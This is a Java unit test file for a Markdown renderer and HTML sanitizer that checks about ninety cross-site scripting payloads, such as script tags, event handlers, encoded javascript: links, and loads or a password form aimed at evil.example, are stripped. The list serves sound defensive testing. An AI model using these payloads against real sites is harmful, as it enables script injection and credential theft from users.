package io.devquest.engine.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What people write who wish our readers ill. */
class HostileTextTest {

    private final CommonMarkdown markdown = new CommonMarkdown();
    private final SafeHtml safe = new SafeHtml();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\" onerror=\"alert(1)\" />",
                "<img src='/a.png' onload='alert(1)'>",
                "<img src=javascript:alert(1)>",
                "<img src=\"https://evil.example/pixel.gif\">",
                "<img src=\"//evil.example/pixel.gif\">",
                "<img src=\"/\\evil.example/pixel.gif\">",
                "<img src=\"/\t/evil.example/pixel.gif\">",
                "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
                "<img srcset=\"https://evil.example/a 1x\" src=\"/a\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
                "<input type=text onfocus=alert(1) autofocus>",
                "<input type=checkbox onclick=alert(1)>",
                "<button formaction=javascript:alert(1)>x</button>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"java&#x0A;script:alert(1)\">x</a>",
                "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"/x\" style=\"position:fixed;inset:0\">x</a>",
                "<a href=\"/x\" onmouseover=\"alert(1)\">x</a>",
                "<a href=\"/x\" target=\"_blank\" ping=\"https://evil.example\">x</a>",
                "<style>@import 'https://evil.example/x.css'</style>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<body onload=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<p id=\"csrf\" class=\"modal\">clobber</p>",
                "<div hx-get=\"/admin/plugins\" hx-trigger=\"load\">x</div>",
                "<code class=\"language-java modal\">x</code>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?><script>alert(1)</script>",
                "<p title=\"--><script>alert(1)</script>\">x</p>",
                "<span class=\"modal\">x</span>",
                "<h2 id=\"csrf\">x</h2>",
                "<label for=\"f-password\" class=\"modal\">x</label>",
                "<input type=checkbox class=\"spoiler-switch modal\" name=_csrf form=confirm>",
                "<img src=\"/logout\">",
                "<img src=\"/files/../logout\">",
                "# \"onclick=alert(1) <x>",
                ":::spoiler \"><script>alert(1)</script>\n<script>alert(1)</script>\n:::",
                "||<img src=x onerror=alert(1)>||",
                "||[x](javascript:alert(1))||",
                "```java x\"onclick=\"alert(1)\nx\n```",
                "![x](/logout)",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](<javascript:alert(1)>)",
                "[x](javascript&colon;alert(1))",
                "[x](java&#115;cript:alert(1))",
                "[x](&#x6A;avascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](vbscript:msgbox(1))",
                "[x](file:///etc/passwd)",
                "[x](/a \"\\\" onmouseover=\\\"alert(1)\")",
                "[x]: javascript:alert(1)\n\n[x]",
                "![x](javascript:alert(1))",
                "![x](https://evil.example/pixel.gif)",
                "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
                "![\" onerror=\"alert(1)](/a.png)",
                "<javascript:alert(1)>",
                "<https://example.org/\"onmouseover=alert(1)>",
                "```\"><script>alert(1)</script>\nx\n```",
                "```java\" onmouseover=\"alert(1)\nx\n```",
                "`<script>alert(1)</script>`",
                "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
                "- [x] <img src=x onerror=alert(1)>",
                "https://example.org/<script>alert(1)</script>",
                "\u0000<script>alert(1)</script>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<\u202escript>alert(1)</script>"
            })
    void nothingHarmfulIsLeft(String payload) {
        assertThat(MarkupCheck.faults(markdown.render(payload).value())).isEmpty();
        assertThat(MarkupCheck.faults(safe.clean(payload))).isEmpty();
    }

    @Test
    void theCheckFindsHarm() {
        assertThat(MarkupCheck.faults("<p>fine <a href=\"https://example.org/a:b\">x</a></p>"))
                .isEmpty();
        assertThat(MarkupCheck.faults("<script>")).isNotEmpty();
        assertThat(MarkupCheck.faults("<p onclick=\"x\">")).isNotEmpty();
        assertThat(MarkupCheck.faults("<img src=x onerror=alert(1)>")).isNotEmpty();
        assertThat(MarkupCheck.faults("<a href=\"javascript&#58;alert(1)\">")).isNotEmpty();
        assertThat(MarkupCheck.faults("<img src=\"https://evil.example/a\" />")).isNotEmpty();
        assertThat(MarkupCheck.faults("<input type=\"text\" />")).isNotEmpty();
    }
}
